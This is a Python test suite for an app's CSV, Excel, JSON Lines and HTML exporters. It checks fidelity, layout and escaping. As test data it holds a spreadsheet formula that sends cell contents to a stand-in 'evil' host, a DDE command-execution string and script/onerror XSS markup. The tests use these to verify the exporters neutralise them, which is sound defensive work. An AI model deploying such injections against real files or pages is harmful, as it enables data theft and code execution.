"""Tables as other programs read them back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter
from PIL import Image

from desktop_app.adapters.exporters.csv_file import CsvExporter
from desktop_app.adapters.exporters.html_file import HtmlExporter
from desktop_app.adapters.exporters.jsonl_file import JsonLinesExporter
from desktop_app.adapters.exporters.xlsx_about import HIGHEST_ROW
from desktop_app.adapters.exporters.xlsx_cells import LONGEST_TEXT, shortened
from desktop_app.adapters.exporters.xlsx_file import XlsxExporter
from desktop_app.domain.forms.form import Date, Form, FormField, Number, Text, plain_form
from desktop_app.domain.forms.prompts import form_prompt
from desktop_app.domain.runs.export_format import ExportOptions, PictureSize
from tests.fakes.handed_over import SURVEY, VALUES, answered, failed, job, run

EMU_PER_PX = 9525
BAD = '=HYPERLINK("http://evil/?"&A1,"x")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)> & \"quoted\" 'too'"


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_csv_is_read_back_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    assert CsvExporter().write(job(path, answered(), failed())) == ()
    first, second = rows_of(path)
    assert first["name"] == "span/IMG_0001.jpg"
    assert (first["rust"], first["width"], first["count"]) == ("yes", "12.5", "4")
    assert first["words"] == VALUES["words"]
    assert (first["day"], first["names"], first["damage"]) == (
        "2026-03-09",
        "Ann; 王伟",
        "10,20,110,220; 0,0,5,5",
    )
    assert second["failure"] == "The picture broken.jpg is damaged."
    assert second["rust"] == ""


def test_csv_names_fields_in_its_cells_as_in_its_heading(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    CsvExporter().write(job(path, answered(edited={"rust": False, "width": 3})))
    row = rows_of(path)[0]
    assert row["changed"] == "rust; width"
    assert set(row["changed"].split("; ")) <= row.keys()


def test_csv_is_what_the_standard_says(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    CsvExporter().write(job(path, answered(values={"words": 'a "b", c\nd'})))
    data = path.read_bytes()
    assert data.count(b"\r\n") == 2
    assert b'"a ""b"", c\nd"' in data
    assert not data.startswith(b"\xef\xbb\xbf")


def test_csv_for_excel_begins_with_a_mark(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    CsvExporter().write(job(path, answered(), options=ExportOptions(for_excel=True)))
    assert path.read_bytes().startswith(b"\xef\xbb\xbfname,rust,")


def test_no_cell_of_a_csv_file_is_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    item = answered(
        values={**VALUES, "words": BAD, "width": -3, "names": [BAD]}, name="=cmd.jpg", note="@sum"
    )
    CsvExporter().write(job(path, item))
    row = rows_of(path)[0]
    assert (row["words"], row["name"], row["note"], row["names"]) == (
        f"'{BAD}",
        "'=cmd.jpg",
        "'@sum",
        f"'{BAD}",
    )
    assert row["width"] == "-3"


def sheets_of(path: Path) -> tuple[Any, Any]:
    book = openpyxl.load_workbook(path)
    assert len(book.worksheets) == 2
    return book.worksheets[0], book.worksheets[1]


def test_a_workbook_holds_real_numbers_and_dates(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(), failed()))
    sheet, _ = sheets_of(path)
    heading = [cell.value for cell in sheet[1]]
    assert heading[1:5] == ["Picture", "Is there rust?", "Width (mm)", "Bolts"]
    cells = dict(zip(heading, sheet[2], strict=True))
    assert cells["Width (mm)"].value == 12.5
    assert cells["Width (mm)"].data_type == "n"
    assert cells["Bolts"].value == 4
    assert cells["Day"].value == datetime(2026, 3, 9)
    assert cells["Day"].number_format == "yyyy-mm-dd"
    assert cells["Confidence"].value == 0.75
    assert cells["What is seen"].value == VALUES["words"]
    assert cells["Sign"].value is None
    assert dict(zip(heading, sheet[3], strict=True))["State"].value == "failed"


def test_a_workbook_can_be_filtered_and_keeps_its_heading_in_view(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(1), answered(2)))
    sheet, _ = sheets_of(path)
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == f"B1:{get_column_letter(sheet.max_column)}3"


def test_a_workbook_is_printed_with_all_its_columns_and_its_headings_on_each_page(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(1, edited={"rust": False})))
    answers, about, changes = openpyxl.load_workbook(path).worksheets
    for sheet in (answers, about, changes):
        page = sheet.sheet_properties.pageSetUpPr
        assert page is not None
        assert page.fitToPage
        assert sheet.page_setup.fitToWidth == (2 if sheet is answers else None), "12 columns are too wide"
        assert sheet.page_setup.fitToHeight == 0
    assert (answers.print_title_rows, changes.print_title_rows) == ("$1:$1", "$1:$1")
    assert answers.page_setup.orientation == "landscape"


def test_a_workbook_shows_each_picture_in_its_row(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(1), answered(2), failed(3)))
    sheet, _ = sheets_of(path)
    assert [picture.anchor._from.row for picture in sheet._images] == [1, 2, 3]
    assert {picture.anchor._from.col for picture in sheet._images} == {0}
    assert Image.open(io.BytesIO(sheet._images[0]._data())).size == (128, 96)
    assert sheet.row_dimensions[2].height >= 72


def test_a_workbook_without_pictures_has_none(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(), options=ExportOptions(pictures=PictureSize.NONE)))
    sheet, _ = sheets_of(path)
    assert sheet["A1"].value == "Picture"
    assert not any("media" in name for name in zipfile.ZipFile(path).namelist())


def test_a_workbook_tells_about_the_run(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered()))
    _, sheet = sheets_of(path)
    told = {row[0].value: row[1].value for row in sheet.iter_rows()}
    assert told["Prompt"].startswith("Look at the steel.\n\nAnswer with one JSON object")
    assert told["Temperature"] == 0.2
    assert told["Lightdesk"] == "1.2.3"
    assert told["Is there rust?"] == "rust: yes or no"


def test_no_cell_of_a_workbook_is_a_formula_or_becomes_one(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    form = Form(
        "=F()", (FormField("words", "=1+1", Text()), FormField("n", "N", Number())), "=cmd|' /C calc'!A0"
    )
    item = answered(values={"words": BAD, "n": -7}, name="+1.jpg", note="-2+3")
    XlsxExporter().write(job(path, item, of=run(form, name="=run")))
    with zipfile.ZipFile(path) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
        assert not [name for name in archive.namelist() if b'Type="hyperlink' in archive.read(name)]
    for sheet in sheets_of(path):
        for row in sheet.iter_rows(min_row=2 if sheet.title == "Answers" else 1):
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.quotePrefix, cell.value
    sheet, _ = sheets_of(path)
    assert sheet["C2"].value == BAD
    assert (sheet["D2"].value, sheet["D2"].data_type) == (-7, "n")


def test_what_a_workbook_cannot_hold_is_written_as_text_or_cut_and_told(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    form = Form(
        "F", (FormField("n", "N", Number()), FormField("d", "D", Date()), FormField("t", "T", Text(0)))
    )
    long = "x" * (LONGEST_TEXT + 5)
    item = answered(values={"n": 12345678901234567890, "d": "1850-01-02", "t": long})
    notes = XlsxExporter().write(job(path, item, of=run(form)))
    sheet, _ = sheets_of(path)
    assert sheet["C2"].value == "12345678901234567890"
    assert sheet["D2"].value == "1850-01-02"
    assert len(sheet["E2"].value) == LONGEST_TEXT
    assert [(note.code, dict(note.values)["count"]) for note in notes] == [("texts-cut", 1)]


def test_all_of_a_prompt_can_be_seen_in_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered()))
    _, sheet = sheets_of(path)
    heights = {row[0].value: sheet.row_dimensions[row[0].row].height for row in sheet.iter_rows()}
    assert heights["Temperature"] in (None, 15)
    assert heights["Prompt"] >= 15 * len(form_prompt(SURVEY, SURVEY.instructions, "qwen2-vl").splitlines())
    assert max(height or 15 for height in heights.values()) <= HIGHEST_ROW


def test_a_workbook_tells_what_was_changed_by_hand(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(1), answered(2, edited={"width": -3, "words": BAD})))
    sheet = openpyxl.load_workbook(path).worksheets[2]
    assert sheet.title == "Changed by hand"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Picture", "Field", "The answer said", "Changed to"],
        ["span/IMG_0002.jpg", "Width", 12.5, -3],
        ["span/IMG_0002.jpg", "What is seen", VALUES["words"], BAD],
    ]
    assert sheet["D3"].quotePrefix
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:D3")


@pytest.mark.parametrize("px", [PictureSize.SMALL, PictureSize.MEDIUM, PictureSize.LARGE])
def test_pictures_of_a_workbook_are_as_large_as_wanted(tmp_path: Path, px: PictureSize) -> None:
    path = tmp_path / "a.xlsx"
    XlsxExporter().write(job(path, answered(), options=ExportOptions(pictures=px)))
    sheet, _ = sheets_of(path)
    assert sheet.row_dimensions[2].height == pytest.approx((px.px + 4) * 0.75)
    begins, ends = sheet._images[0].anchor._from, sheet._images[0].anchor.to
    assert begins.col == ends.col == 0
    assert (ends.colOff - begins.colOff) / EMU_PER_PX == min(px.px, 128), "never larger than it is"


@given(st.text(st.sampled_from(["a", "\U0001f600", "\n", "王"]), min_size=20, max_size=200))
def test_a_text_is_cut_at_excels_own_limit_and_never_within_a_character(some: str) -> None:
    text = some * (40_000 // len(some))
    kept = shortened(text)
    units = len(kept.encode("utf-16-le")) // 2
    assert text.startswith(kept)
    assert units <= LONGEST_TEXT
    assert kept == text or units >= LONGEST_TEXT - 1


def test_json_lines_hold_all_that_is_known(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    JsonLinesExporter().write(job(path, answered(edited={"rust": False}), failed()))
    first, second = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert first["values"] == {**VALUES, "rust": False}
    assert first["answer"]["values"] == VALUES
    assert (first["changed"], first["answer"]["original_size"]) == (["rust"], [400, 300])
    assert second["failure"] == {"code": "picture-broken", "detail": "truncated"}
    assert second["answer"] is None


def test_json_lines_hold_what_each_picture_was_asked(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    own = answered(1)
    assert own.answer is not None
    filled = replace(own, answer=replace(own.answer, asked="Was it rusty before: yes?"))
    JsonLinesExporter().write(job(path, filled, answered(2)))
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert [line["answer"]["asked"] for line in lines] == ["Was it rusty before: yes?", "Look at the steel."]


def test_json_lines_fill_in_what_is_known_of_a_picture_that_a_batch_service_was_asked_about(
    tmp_path: Path,
) -> None:
    path = tmp_path / "a.jsonl"
    asks = replace(SURVEY, instructions="Is {{file}} of {{taken}} rusty?")
    JsonLinesExporter().write(job(path, answered(1), of=run(asks)))
    assert json.loads(path.read_text("utf-8"))["answer"]["asked"] == "Is IMG_0001.jpg of {{taken}} rusty?"


class Page(HTMLParser):
    """Every tag and attribute of a page, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def test_a_page_holds_everything_itself_and_runs_nothing(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    form = Form(MARKUP, (FormField("t", MARKUP, Text(0)),), MARKUP)
    item = answered(values={"t": MARKUP}, name=f"{MARKUP}.jpg", note=MARKUP)
    HtmlExporter().write(job(path, item, of=run(form, name=MARKUP)))
    page = Page(path.read_text("utf-8"))
    names = [tag for tag, _ in page.tags]
    assert "script" not in names
    assert names.count("img") == 1
    assert all(not name.startswith("on") for _, attributes in page.tags for name in attributes)
    addresses = [value for _, given in page.tags for name, value in given.items() if name in ("src", "href")]
    assert all(address is not None and address.startswith("data:image/jpeg;base64,") for address in addresses)
    assert page.text.count("<script>alert(1)</script>") == 11
    policy = [given["content"] for tag, given in page.tags if "http-equiv" in given]
    assert policy == ["default-src 'none'; img-src data:; style-src 'unsafe-inline'"]
    assert "url(" not in path.read_text("utf-8")


def test_a_page_shows_pictures_values_and_why_something_failed(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    HtmlExporter().write(job(path, answered(), failed()))
    text = path.read_text("utf-8")
    assert text.count("<img ") == 2
    assert '<td class="number">12.5</td>' in text
    assert '<td class="day">2' in text, "a day is not broken into two lines"
    assert "td.day { white-space: nowrap; }" in text
    assert '<tr class="failed">' in text
    assert "The picture broken.jpg is damaged." in text
    assert "Ann; 王伟" in text
    assert "prefers-color-scheme: dark" in text
    assert "@media print" in text


def test_a_wide_table_moves_in_a_box_that_the_keyboard_reaches(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    HtmlExporter().write(job(path, answered(), options=ExportOptions(pictures=PictureSize.LARGE)))
    text = path.read_text("utf-8")
    boxes = [given for tag, given in Page(text).tags if given.get("class") == "box"]
    assert [(box["tabindex"], box["role"], box["aria-label"]) for box in boxes] == [
        ("0", "region", "Answers")
    ]
    assert text.index('class="box"') < text.index("<table>") < text.index("</table></div>")
    for rule in (
        ".box table { width: max-content; }",  # long words of one column leave the others their room
        "thead th { position: sticky; top: 0;",
        "td:first-child { position: sticky; left: 0;",
    ):
        assert rule in text
    assert "--picture: 256px" in text


def test_what_was_changed_by_hand_stands_below_the_table_of_a_page(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    HtmlExporter().write(job(path, answered(edited={"words": "=1+1", "width": 3})))
    text = path.read_text("utf-8")
    below = text[text.index("<h2>Changed by hand</h2>") :]
    assert '<td>Width</td><td class="number">12.5</td><td class="number">3</td>' in below
    assert "<td>\u2060=1+1</td>" in below
    HtmlExporter().write(job(path, answered()))
    assert "Changed by hand" not in path.read_text("utf-8")


def test_what_is_copied_out_of_a_page_does_not_begin_like_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    HtmlExporter().write(job(path, answered(values={**VALUES, "words": "=1+1"})))
    assert "<td>=1+1" not in path.read_text("utf-8")
    assert "<td>\u2060=1+1</td>" in path.read_text("utf-8")


def test_headings_for_people_are_translated_and_keys_for_programs_are_not(tmp_path: Path) -> None:
    words = {"Picture": "图片", "yes": "是", "answered": "已回答", "About this run": "关于这次运行"}
    words["The picture {name} is damaged."] = "图片 {name} 已损坏。"

    def translate(text: str) -> str:
        return words.get(text, text)

    for exporter, name in ((XlsxExporter(), "a.xlsx"), (HtmlExporter(), "a.html"), (CsvExporter(), "a.csv")):
        exporter.write(job(tmp_path / name, answered(), failed(), translate=translate))
    sheet, second = sheets_of(tmp_path / "a.xlsx")
    assert (sheet["B1"].value, sheet["C2"].value, second.title) == ("图片", "是", "关于这次运行")
    page = (tmp_path / "a.html").read_text("utf-8")
    assert "<th>图片</th>" in page
    assert "<td>图片 broken.jpg 已损坏。</td>" in page
    assert rows_of(tmp_path / "a.csv")[0]["state"] == "answered"


@pytest.mark.parametrize("exporter", [CsvExporter, XlsxExporter, JsonLinesExporter, HtmlExporter])
def test_names_that_are_no_text_can_be_written(tmp_path: Path, exporter: Any) -> None:
    path = tmp_path / "a.out"
    item = answered(values={"answer": "half \ud800"}, name="caf\udce9.jpg", path="/pictures/caf\udce9.jpg")
    exporter().write(job(path, item, of=run(plain_form("Describe \udce9"))))
    assert path.stat().st_size > 20
